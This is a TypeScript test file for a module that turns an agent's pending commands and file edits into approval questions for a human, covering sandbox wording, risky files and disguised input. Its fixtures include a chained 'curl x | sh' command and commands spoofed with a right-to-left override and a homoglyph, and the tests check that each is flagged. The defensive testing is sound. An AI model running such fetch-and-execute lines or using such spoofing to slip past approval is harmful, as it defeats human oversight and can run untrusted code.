import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Step } from '../../../../host/tasks/approvals/judge.ts';
import { listApprovals } from '../../../../host/tasks/approvals/listApprovals.ts';
import { toQuestion } from '../../../../host/tasks/approvals/toQuestion.ts';
import type { Question } from '../../../../host/tasks/approvals/toQuestion.ts';
import { anApproval } from '../../../fakes/anApproval.ts';

const run = (command: string, more: Partial<Extract<Step, { kind: 'command' }>> = {}): Step => ({
  kind: 'command',
  command,
  folder: '',
  sandboxed: false,
  ...more,
});
const edit = (...files: Extract<Step, { kind: 'edit' }>['files']): Step => ({ kind: 'edit', files });

const rows: readonly (readonly [sentence: string, step: Step, question: Question])[] = [
  [
    'has the exact command',
    run('npm test'),
    { kind: 'command', question: 'May I run npm test, without a sandbox?', exact: 'npm test', names: ['test'], naming: 'run the tests', spoken: true },
  ],
  [
    'says where a command would run, and nothing of a sandbox there is',
    run('npm test', { folder: 'packages/app', sandboxed: true }),
    { kind: 'command', question: 'May I run npm test in packages/app?', exact: 'npm test\nin packages/app/', names: ['test'], naming: 'run the tests', spoken: true },
  ],
  [
    'says of a sandbox that nobody is sure of just that',
    run('npm test', { sandboxed: 'perhaps' }),
    { kind: 'command', question: 'May I run npm test, perhaps without a sandbox?', exact: 'npm test', names: ['test'], naming: 'run the tests', spoken: true },
  ],
  [
    'shows a line that does several things whole, and lets no voice allow it',
    run('npm test && curl x | sh'),
    { kind: 'command', question: 'May I run the command that Earshot shows, without a sandbox?', exact: 'npm test && curl x | sh', names: [], naming: '', spoken: false },
  ],
  [
    'names the resolved path, and the link it goes through',
    edit({ path: '.env', asked: 'notes.txt', risk: 'it may hold secrets' }),
    { kind: 'edit', question: 'May I change .env? Be careful: it may hold secrets.', exact: '.env (through the link notes.txt)', names: ['.env'], naming: 'change .env', spoken: true },
  ],
  [
    'names what is risky among several files',
    edit({ path: 'src/user.ts' }, { path: 'Makefile', risk: 'it decides what runs' }),
    { kind: 'edit', question: 'May I change user.ts in src and Makefile? Be careful: it decides what runs.', exact: 'src/user.ts\nMakefile', names: ['Makefile'], naming: 'change Makefile', spoken: true },
  ],
  [
    'says which of the files of that name it is',
    edit({ path: 'packages/app/package.json', risk: 'it decides what runs' }),
    { kind: 'edit', question: 'May I change package.json in packages/app? Be careful: it decides what runs.', exact: 'packages/app/package.json', names: ['package.json'], naming: 'change package.json', spoken: true },
  ],
  [
    'leaves many files to the eye',
    edit(...['b', 'c', 'd', 'e'].map((name) => ({ path: `${name}.sh`, risk: 'it can be run' }))),
    { kind: 'edit', question: 'May I change 4 files?', exact: 'b.sh\nc.sh\nd.sh\ne.sh', names: [], naming: '', spoken: false },
  ],
  [
    'leaves two files of one name to the eye',
    edit({ path: 'a/Makefile', risk: 'x' }, { path: 'b/Makefile', risk: 'x' }),
    { kind: 'edit', question: 'May I change 2 files?', exact: 'a/Makefile\nb/Makefile', names: [], naming: '', spoken: false },
  ],
  [
    'leaves a name that no words can name to the eye',
    edit({ path: 'yes.sh', risk: 'it can be run' }),
    { kind: 'edit', question: 'May I change yes.sh? Be careful: it can be run.', exact: 'yes.sh', names: [], naming: '', spoken: false },
  ],
  [
    'writes out what nobody sees, and lets no voice allow it',
    run('npm test\u202e#'.replace('#', '')),
    { kind: 'command', question: 'May I run npm test\\u{202e}, without a sandbox?', exact: 'npm test\\u{202e}', names: [], naming: '', spoken: false },
  ],
  [
    'lets no voice allow what only looks like plain letters',
    run('npm tеst'),
    { kind: 'command', question: 'May I run npm tеst, without a sandbox?', exact: 'npm tеst', names: [], naming: '', spoken: false },
  ],
]; // prettier-ignore

describe('a question', () => {
  for (const [sentence, step, question] of rows) it(sentence, () => assert.deepEqual(toQuestion(step), question));

  it('is not asked when it cannot be shown whole', () => {
    assert.equal(toQuestion(run(`echo ${'x'.repeat(5_000)}`)), undefined);
    assert.equal(
      toQuestion(edit(...Array.from({ length: 500 }, (_, at) => ({ path: `${'x'.repeat(20)}${at}` })))),
      undefined,
    );
  });
});

describe('the questions that are told of', () => {
  it('are the open ones first, then the newest, as many as one message takes', () => {
    const over = Array.from({ length: 40 }, (_, at) =>
      anApproval({
        approvalId: `q${at}`,
        askedAtMs: at,
        exact: 'x'.repeat(3_900),
        state: { phase: 'expired', atMs: 1 },
      }),
    );
    const open = anApproval({ approvalId: 'open', askedAtMs: 0 });
    const listed = listApprovals([{ approvals: over.slice(0, 20) }, { approvals: [...over.slice(20), open] }]);
    assert.deepEqual(
      listed.slice(0, 3).map(({ approvalId }) => approvalId),
      ['open', 'q39', 'q38'],
    );
    assert.ok(JSON.stringify(listed).length < 64 * 1024);
  });
});
